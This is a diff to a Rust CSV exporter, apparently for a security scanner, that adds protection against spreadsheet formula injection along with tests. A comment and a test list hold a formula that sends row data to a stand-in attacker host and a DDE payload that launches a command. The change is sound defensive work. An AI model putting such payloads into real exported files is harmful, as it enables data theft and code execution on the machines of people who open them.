@@ -1,6 +1,12 @@
 //! CSV: every normalized field of a finding plus where it is stored, one row each, with a
 //! header. Quoting of commas, quotes and line breaks is the `csv` crate's (RFC 4180);
 //! tags are joined with `; `, times are RFC 3339, empty values are empty cells.
+//!
+//! A scanned site controls much of a finding's text (URLs, parameter names, page
+//! elements), and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
+//! formula (`=HYPERLINK("http://evil.example/?"&A2)` sends the row away). Such a cell
+//! gets a leading `'`, as OWASP advises, unless it is a number or the export was asked
+//! to keep formulas.
 
 use crate::error::Result;
 use crate::output::Sink;
@@ -47,6 +53,7 @@ pub struct Csv {
     out: ::csv::Writer<Sink>,
     path: Option<PathBuf>,
     findings: u64,
+    keep_formulas: bool,
 }
 
 impl Csv {
@@ -60,8 +67,16 @@ impl Csv {
             out,
             path,
             findings: 0,
+            keep_formulas: opts.csv_keep_formulas,
         })
     }
+}
+
+/// Whether a spreadsheet would take `cell` for a formula: it starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return, and is not a plain number (a negative issue id or
+/// score stays as it is).
+fn is_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
 }
 
 fn opt<T: ToString>(v: &Option<T>) -> String {
@@ -76,7 +91,7 @@ impl Exporter for Csv {
     fn write(&mut self, item: &Item<'_>) -> Result<()> {
         let s = item.finding;
         let f = &s.finding;
-        let row: [String; 31] = [
+        let mut row: [String; 31] = [
             s.id.to_string(),
             s.connector.clone(),
             opt(&s.asset_name),
@@ -109,6 +124,11 @@ impl Exporter for Csv {
             rfc3339(s.first_seen),
             rfc3339(s.last_seen),
         ];
+        if !self.keep_formulas {
+            for cell in row.iter_mut().filter(|c| is_formula(c)) {
+                cell.insert(0, '\'');
+            }
+        }
         self.out.write_record(&row)?;
         self.findings += 1;
         Ok(())
@@ -119,6 +139,7 @@ impl Exporter for Csv {
             out,
             path,
             findings,
+            ..
         } = *self;
         let mut sink = out.into_inner().map_err(|e| e.into_error())?;
         std::io::Write::flush(&mut sink)?;
@@ -127,5 +148,34 @@ impl Exporter for Csv {
             files: path.into_iter().collect(),
             bytes: sink.bytes,
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_formula;
+
+    #[test]
+    fn formulas_are_told_from_text_and_numbers() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?\"&A2)",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "\t=1",
+            "-",
+        ] {
+            assert!(is_formula(cell), "{cell}");
+        }
+        for cell in [
+            "-4714581656683135232",
+            "-1.5",
+            "+1",
+            "Cross-Site Scripting",
+            "",
+            "a=b",
+        ] {
+            assert!(!is_formula(cell), "{cell}");
+        }
     }
 }
